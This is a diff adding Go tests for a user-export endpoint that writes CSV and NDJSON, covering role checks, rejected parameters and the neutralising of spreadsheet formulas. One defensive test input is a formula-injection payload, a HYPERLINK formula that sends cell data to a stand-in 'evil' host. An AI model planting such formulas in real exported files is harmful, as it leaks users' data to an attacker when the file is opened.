@@ -0,0 +1,177 @@
+package handler
+
+import (
+	"bufio"
+	"context"
+	"encoding/json"
+	"io"
+	"net/http/httptest"
+	"sort"
+	"strings"
+	"testing"
+
+	user "veemon/app/usecase/user"
+	"veemon/entity"
+	"veemon/internal/fixtures"
+	"veemon/pkg/middleware"
+	"veemon/repository/user_repository"
+
+	"github.com/gofiber/fiber/v2"
+)
+
+// FindAllInBatches hands fn the users in email order, batchSize at a time,
+// ignoring search and sort.
+func (r *memRepo) FindAllInBatches(_ context.Context, params user_repository.ListParams, batchSize int, fn func([]entity.UserSummary) error) error {
+	r.mu.Lock()
+	var all []entity.UserSummary
+	for _, u := range r.users {
+		if u.DeletedAt.Valid && !params.IncludeDeleted {
+			continue
+		}
+		all = append(all, u.Summary())
+	}
+	r.mu.Unlock()
+	sort.Slice(all, func(i, j int) bool { return all[i].Email < all[j].Email })
+	for len(all) > 0 {
+		n := min(batchSize, len(all))
+		if err := fn(all[:n]); err != nil {
+			return err
+		}
+		all = all[n:]
+	}
+	return nil
+}
+
+func exportApp(roles ...string) *fiber.App {
+	gone := fixtures.User().WithID("u3").WithEmail("c@example.com").Deleted().Build()
+	repo := &memRepo{users: map[string]*entity.User{
+		"u1": fixtures.User().WithID("u1").WithEmail("a@example.com").WithName("Ann, Jr.").WithRoles("user", "auditor").Build(),
+		"u2": fixtures.User().WithID("u2").WithEmail("b@example.com").WithName("Bob").WithCompany("ACME").Build(),
+		"u3": gone,
+	}}
+	app := fiber.New()
+	validator := func(string) (*middleware.AuthContext, error) {
+		return &middleware.AuthContext{UserID: "caller", Roles: roles}, nil
+	}
+	app.Get(UserExportPath,
+		middleware.AuthMiddleware(validator, middleware.AuthConfig{NeedAuth: true, RequiredPermissions: []string{UserExportPermission}}),
+		UserExportHandler(user.NewUseCase(repo), UserExportConfig{}, nil))
+	return app
+}
+
+func getExport(t *testing.T, app *fiber.App, query string) (int, string, string) {
+	t.Helper()
+	req := httptest.NewRequest("GET", UserExportPath+query, nil)
+	req.Header.Set("Authorization", "Bearer x")
+	resp, err := app.Test(req, -1)
+	if err != nil {
+		t.Fatalf("app.Test: %v", err)
+	}
+	defer resp.Body.Close()
+	body, _ := io.ReadAll(resp.Body)
+	return resp.StatusCode, resp.Header.Get("Content-Disposition"), string(body)
+}
+
+func TestUserExport_CSV(t *testing.T) {
+	status, disposition, body := getExport(t, exportApp("admin"), "?fields=email,id,name,roles,companyCode")
+
+	if status != 200 || !strings.HasPrefix(disposition, `attachment; filename="users-`) || !strings.HasSuffix(disposition, `.csv"`) {
+		t.Fatalf("status %d, Content-Disposition %q", status, disposition)
+	}
+	want := "id,email,name,roles,companyCode\n" +
+		"u1,a@example.com,\"Ann, Jr.\",user;auditor,\n" +
+		"u2,b@example.com,Bob,user,ACME\n"
+	if body != want {
+		t.Fatalf("body =\n%s\nwant\n%s", body, want)
+	}
+}
+
+func TestUserExport_NDJSONIncludingDeleted(t *testing.T) {
+	status, disposition, body := getExport(t, exportApp("superadmin"), "?format=ndjson&fields=id,deletedAt&includeDeleted=true")
+
+	if status != 200 || !strings.HasSuffix(disposition, `.ndjson"`) {
+		t.Fatalf("status %d, Content-Disposition %q", status, disposition)
+	}
+	lines := strings.Split(strings.TrimSuffix(body, "\n"), "\n")
+	if len(lines) != 3 {
+		t.Fatalf("%d lines, want 3: %s", len(lines), body)
+	}
+	var last map[string]any
+	if err := json.Unmarshal([]byte(lines[2]), &last); err != nil {
+		t.Fatalf("line %q: %v", lines[2], err)
+	}
+	if len(last) != 2 || last["id"] != "u3" || last["deletedAt"] == nil {
+		t.Fatalf("deleted user = %v", last)
+	}
+}
+
+func TestUserExport_EmptyCSVHasItsHeader(t *testing.T) {
+	app := fiber.New()
+	app.Get(UserExportPath, func(c *fiber.Ctx) error {
+		c.Locals("auth", &middleware.AuthContext{UserID: "caller", Roles: []string{"admin"}})
+		return c.Next()
+	}, UserExportHandler(user.NewUseCase(&memRepo{}), UserExportConfig{}, nil))
+
+	status, _, body := getExport(t, app, "?fields=id,email")
+	if status != 200 || body != "id,email\n" {
+		t.Fatalf("status %d, body %q", status, body)
+	}
+}
+
+func TestCSVWriter_NeutralisesFormulas(t *testing.T) {
+	cols, _ := parseExportFields("name,phone,companyCode")
+	var buf strings.Builder
+	w := bufio.NewWriter(&buf)
+	write := csvWriter(w, cols)
+
+	for _, u := range []entity.UserSummary{
+		{Name: `=HYPERLINK("http://evil/?"&A1,"x")`, Phone: "+6281234567890", CompanyCode: "@SUM(A1)"},
+		{Name: "-2+3", CompanyCode: "\tx"},
+		{Name: "Ann", Phone: "0812"},
+	} {
+		if err := write(&u); err != nil {
+			t.Fatalf("write: %v", err)
+		}
+	}
+	_ = w.Flush()
+
+	want := "name,phone,companyCode\n" +
+		`"'=HYPERLINK(""http://evil/?""&A1,""x"")",'+6281234567890,'@SUM(A1)` + "\n" +
+		"'-2+3,,'\tx\n" +
+		"Ann,0812,\n"
+	if buf.String() != want {
+		t.Fatalf("csv = %q, want %q", buf.String(), want)
+	}
+
+	// The import takes the quote off again.
+	for cell, want := range map[string]string{"'+6281234567890": "+6281234567890", "'=1": "=1", "'Ann": "'Ann", "'": "'"} {
+		if got := csvUncell(cell); got != want {
+			t.Errorf("csvUncell(%q) = %q, want %q", cell, got, want)
+		}
+	}
+}
+
+func TestUserExport_Rejects(t *testing.T) {
+	tests := []struct {
+		name, query  string
+		roles        []string
+		status, code int
+	}{
+		{"unknown format", "?format=xml", []string{"admin"}, 400, 40013},
+		{"unknown field", "?fields=id,password", []string{"admin"}, 400, 40003},
+		{"unknown sort", "?sortBy=password", []string{"admin"}, 400, 40011},
+		{"auditor", "", []string{"auditor"}, 403, 0},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			status, _, body := getExport(t, exportApp(tt.roles...), tt.query)
+			var out struct {
+				Error struct{ Code int } `json:"error"`
+			}
+			_ = json.Unmarshal([]byte(body), &out)
+			if status != tt.status || (tt.code != 0 && out.Error.Code != tt.code) {
+				t.Fatalf("status %d code %d; want %d %d: %s", status, out.Error.Code, tt.status, tt.code, body)
+			}
+		})
+	}
+}